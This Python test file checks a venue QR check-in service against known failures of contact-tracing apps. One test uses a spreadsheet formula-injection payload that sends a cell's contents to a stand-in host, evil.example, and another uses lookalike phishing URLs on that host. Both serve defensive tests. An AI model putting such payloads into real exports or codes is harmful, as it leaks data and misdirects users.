"""What went wrong with place codes elsewhere, one test each: it can't happen here. (Those of gates and of notices are
with their rooms; bursts, silent places and codes scanned far away with the check-ins.)"""

import io
from datetime import date
from typing import Any

import pypdf
import pytest
import zxingcpp
from django.test import Client
from PIL import Image

from lachan.register.access.models import Account
from lachan.register.places import actions, codes, poster, queries, sheets
from lachan.register.places.models import Part, Place, PlaceCode, PlaceImport, PlaceInvite, PlaceStaff, PlaceTransfer
from lachan.testing.cast import sign_in

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Chợ")'


def test_a_name_in_an_export_never_runs_as_a_formula(client: Client, market: Any, owner: Any) -> None:
    """luca, May 2021: a guest's name ran in the health office's spreadsheet."""
    for text in (FORMULA, "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"):
        csv = sheets.as_csv(["Tên"], [[text]]).decode("utf-8-sig").splitlines()[1:]
        assert csv[0].lstrip('"').startswith("'")
        xlsx = sheets.as_xlsx(["Tên"], [[text]])
        import zipfile

        with zipfile.ZipFile(io.BytesIO(xlsx)) as packed:
            assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")


def test_no_shop_keeps_a_key_that_can_be_lost(market: Any, owner: Any, hanh: Any) -> None:
    """Sylt, July 2021: a bar lost its private key and its guests could not be traced."""
    code = queries.code_in_force(market)
    assert code is not None
    Account.objects.filter(pk=owner.pk).update(is_active=False)
    PlaceStaff.objects.filter(place=market).delete()
    assert queries.place_by_code(code.code) == market
    names = {
        field.name
        for model in (Place, PlaceCode, Part, PlaceStaff, PlaceInvite, PlaceTransfer, PlaceImport)
        for field in model._meta.get_fields()
    }
    assert not {name for name in names if "private" in name or "secret" in name or "seed" in name}


def test_printing_again_makes_no_second_place(client: Client, market: Any, owner: Any) -> None:
    """CWA: a new poster for each download was a new place, and one evening had two."""
    sign_in(client, owner)
    texts = []
    for address in ("poster-a4-vi", "poster-a4-vi", "poster-door-en"):
        content = client.get(f"/places/{market.key}/{address}.pdf").content
        texts.append(pypdf.PdfReader(io.BytesIO(content)).pages[0].extract_text())
    code = market.codes.get().code
    assert all(codes.grouped(code) in text for text in texts)
    new = actions.replace_codes(place=market, because="lost")
    assert queries.place_by_code(new.code) == market
    (part,) = actions.add_parts(place=market, kind="gate", names=["Cổng Tây"])
    gate = queries.code_in_force(market, part)
    assert gate is not None and queries.place_by_code(gate.code) == market


def test_a_poster_says_when_it_was_made_and_leads_to_no_app_by_name(market: Any) -> None:
    """Viet Nam, 2021: old posters still named apps that had been replaced; one could not tell old from new."""
    code = queries.code_in_force(market)
    assert code is not None
    made = poster.render(market, code, host="lachan.vn", language="vi", on=date(2026, 11, 24))
    text = pypdf.PdfReader(io.BytesIO(made)).pages[0].extract_text()
    assert "24/11/2026" in text
    assert not any(name in text for name in ("Bluezone", "NCOVI", "VHD", "PC-Covid"))


@pytest.mark.parametrize(
    "sticker",
    [
        "https://evil.example/c/7KD2Q4MX9RTB",
        "https://lachan.vn.evil.example/",
        "https://evil.example/?https://lachan.vn/c/",
        "WIFI:T:WPA;S:free;;",
        "7KD2-Q4MX-9RTA",
    ],
)
def test_a_sticker_over_the_code_leads_nowhere_and_can_be_reported(
    client: Client, sticker: str, area_tree: Any
) -> None:
    """South Australia and Canberra, 2021: stickers over official codes led to other sites."""
    assert queries.place_by_code(sticker) is None
    form = {"what": "other_site", "code": sticker[:80], "commune": "Hải Châu, Đà Nẵng", "note": "Ở cổng chợ"}
    assert client.post("/places/report/", form).status_code == 302


def test_a_copied_code_is_ended_without_a_new_place(client: Client, market: Any, owner: Any) -> None:
    """Everywhere: a photograph of a static code was scanned from home."""
    old = queries.code_in_force(market)
    assert old is not None
    sign_in(client, owner)
    client.post(f"/places/{market.key}/code/", {"because": "copied"})
    assert queries.place_by_code(old.code) is None
    assert queries.code_in_force(market) is not None


def test_one_format_is_read_by_every_door(market: Any) -> None:
    """Viet Nam, until November 2021: several codes that the other apps could not read."""
    code = queries.code_in_force(market)
    assert code is not None
    made = poster.render(market, code, host="lachan.vn", language="vi", on=date(2026, 11, 24), picture=True)
    (found,) = zxingcpp.read_barcodes(Image.open(io.BytesIO(made)))
    for text in (found.text, found.text.lower(), code.code, codes.grouped(code.code), f" {code.code.lower()} "):
        assert queries.place_by_code(text) == market
    assert len(found.text) <= codes.MAX_PAYLOAD


def test_a_code_says_nothing_of_its_place() -> None:
    """SafeEntry: the payload held the tenant's number and name, so anyone could make one."""
    made = {codes.new() for _ in range(2000)}
    assert len(made) == 2000
    assert all(codes.is_valid(code) for code in made)
    # No two codes of one place, and none of two places, share more than chance would have it.
    firsts = [sum(code.startswith(sign) for code in made) for sign in codes.ALPHABET]
    assert max(firsts) < 2000 / 32 * 2
